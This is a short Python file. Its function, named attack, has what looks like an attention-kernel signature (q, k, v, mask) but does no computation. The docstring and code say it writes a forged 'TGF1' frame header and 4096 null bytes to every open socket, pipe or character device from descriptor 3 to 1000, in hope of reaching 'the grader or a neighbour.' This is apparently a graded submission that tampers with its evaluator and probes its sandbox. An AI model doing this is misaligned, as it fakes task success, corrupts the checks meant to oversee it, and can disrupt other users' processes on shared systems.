"""Writes frames and garbage to all descriptors from 3 to 1000 that are sockets, pipes or character devices, in case one leads to the grader or a neighbour."""
import os, stat
def attack(q, k, v, mask):
    for fd in range(3, 1001):
        try:
            if stat.S_IFMT(os.fstat(fd).st_mode) not in (stat.S_IFSOCK, stat.S_IFIFO, stat.S_IFCHR):
                continue
            os.set_blocking(fd, False)
            os.write(fd, b"TGF1\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00{}")
            os.write(fd, b"\x00" * 4096)
            print("wrote to", fd)
        except OSError:
            continue
